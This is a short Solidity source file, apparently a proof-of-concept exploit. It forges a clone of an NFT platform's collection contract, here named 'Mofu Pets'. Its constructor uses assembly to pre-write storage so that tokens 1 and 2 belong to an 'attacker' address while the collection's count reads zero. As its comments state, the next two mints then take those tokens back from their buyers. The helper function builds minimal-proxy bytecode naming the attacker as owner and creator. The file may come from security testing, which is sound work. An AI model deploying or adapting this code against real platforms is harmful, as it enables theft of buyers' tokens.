// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @dev Its init code writes storage and then returns `code`. Tokens 1 and 2 exist and belong to the attacker while the
/// collection's own count is 0, so that the next two mints take them back from their buyers.
contract ForgedCollection {
    constructor(bytes memory code, address attacker) {
        bytes32 token1 = keccak256(abi.encode(uint256(1), uint256(0)));
        bytes32 token2 = keccak256(abi.encode(uint256(2), uint256(0)));
        bytes32 account = keccak256(abi.encode(attacker, uint256(1)));
        assembly {
            sstore(token1, attacker)
            sstore(token2, attacker)
            sstore(account, 2)
            return(add(code, 0x20), mload(code))
        }
    }
}

/// @dev The code of a clone of the platform's collections, with arguments that name the attacker its owner and creator.
function forgedCode(address implementation, address attacker) pure returns (bytes memory) {
    return abi.encodePacked(
        hex"363d3d373d3d3d363d73",
        implementation,
        hex"5af43d82803e903d91602b57fd5bf3",
        abi.encodePacked(attacker, attacker, uint64(0), uint8(0), uint8(9), uint8(116), bytes7(0), "Mofu Pets", "MOFU")
    );
}
